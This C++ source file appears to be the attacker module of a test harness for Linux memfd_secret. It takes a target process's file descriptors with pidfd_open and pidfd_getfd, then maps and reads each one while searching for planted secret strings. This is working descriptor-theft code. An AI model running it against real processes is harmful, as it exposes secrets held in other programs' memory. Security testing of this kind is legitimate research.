#include <dirent.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdlib>

#include "attacks.h"
#include "search.h"

// pidfd_open(2) is of Linux 5.3 and pidfd_getfd(2) of 5.6, with these numbers on every
// architecture.
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

namespace memfd_secret::attacker {
namespace {

// Of a device or a file without a size: enough to show that nothing is there.
constexpr uint64_t kUnknownSize = 1 << 20;
constexpr uint64_t kLargestMap = 64 << 20;

int ListDescriptors(const std::string& folder, std::vector<int>* numbers) {
  DIR* directory = opendir(folder.c_str());
  if (directory == nullptr) return errno;
  for (const dirent* entry = readdir(directory); entry != nullptr; entry = readdir(directory)) {
    if (entry->d_name[0] != '.') numbers->push_back(atoi(entry->d_name));
  }
  closedir(directory);
  std::sort(numbers->begin(), numbers->end());
  return 0;
}

std::string LinkOf(const std::string& path) {
  char target[512];
  const ssize_t length = readlink(path.c_str(), target, sizeof target);
  return length < 0 ? std::string() : std::string(target, static_cast<size_t>(length));
}

// Through a pipe: write(2) answers EFAULT where touching the page would end this program by SIGBUS
// (a mapping can be longer than its file), and it can read secret memory mapped here, which
// process_vm_readv cannot.
bool CopyPage(const int (&pipe_ends)[2], const char* from, char* into, size_t page) {
  const ssize_t written = write(pipe_ends[1], from, page);
  if (written <= 0) return false;
  return read(pipe_ends[0], into, page) == written && static_cast<size_t>(written) == page;
}

void SearchByMmap(int fd, const std::string& name, uint64_t size,
                  const std::vector<Needle>& needles, Result* result) {
  const size_t page = PageSize();
  const uint64_t wanted = size == 0 ? page : std::min(size, kLargestMap);
  const size_t length = (wanted + page - 1) / page * page;
  void* memory = mmap(nullptr, length, PROT_READ, MAP_SHARED, fd, 0);
  if (memory == MAP_FAILED) return;
  int pipe_ends[2];
  if (pipe2(pipe_ends, O_CLOEXEC | O_NONBLOCK) == 0) {
    Searcher searcher(needles, result);
    searcher.Restart(0, name, false);
    std::vector<char> copy(page);
    const char* bytes = static_cast<const char*>(memory);
    for (size_t at = 0; at < length; at += page) {
      if (!CopyPage(pipe_ends, bytes + at, copy.data(), page)) break;
      searcher.Feed(copy.data(), page);
      result->bytes_read += page;
    }
    close(pipe_ends[0]);
    close(pipe_ends[1]);
  }
  munmap(memory, length);
}

void SearchTaken(int fd, const std::string& name, const std::vector<Needle>& needles,
                 Result* result) {
  struct stat status;
  const uint64_t size =
      fstat(fd, &status) == 0 && status.st_size > 0 ? static_cast<uint64_t>(status.st_size) : 0;
  SearchByMmap(fd, name, size, needles, result);
  // Pipes, sockets and secret memory refuse pread; that is one way less, not a failure of the
  // attack.
  (void)SearchDescriptor(fd, name, size == 0 ? kUnknownSize : size, false, needles, result);
}

}  // namespace

bool AttackDescriptors(pid_t pid, const std::vector<Needle>& needles, Result* result) {
  const std::string folder = "/proc/" + std::to_string(pid) + "/fd";
  std::vector<int> numbers;
  const int error = ListDescriptors(folder, &numbers);
  if (error != 0) return result->Fail("/proc/PID/fd", error);
  const int pidfd = static_cast<int>(syscall(SYS_pidfd_open, pid, 0));
  if (pidfd < 0) return result->Fail("pidfd_open", errno);
  int refusal = 0;
  for (const int number : numbers) {
    result->descriptors += 1;
    const std::string name = LinkOf(folder + "/" + std::to_string(number));
    if (name.compare(0, 10, "/secretmem") == 0) result->secret_descriptors += 1;
    const int taken = static_cast<int>(syscall(SYS_pidfd_getfd, pidfd, number, 0));
    if (taken < 0) {
      refusal = errno;
      continue;
    }
    result->descriptors_taken += 1;
    SearchTaken(taken, name, needles, result);
    close(taken);
  }
  close(pidfd);
  if (result->descriptors_taken == 0) {
    return result->Fail("pidfd_getfd", refusal == 0 ? ESRCH : refusal);
  }
  return true;
}

}  // namespace memfd_secret::attacker
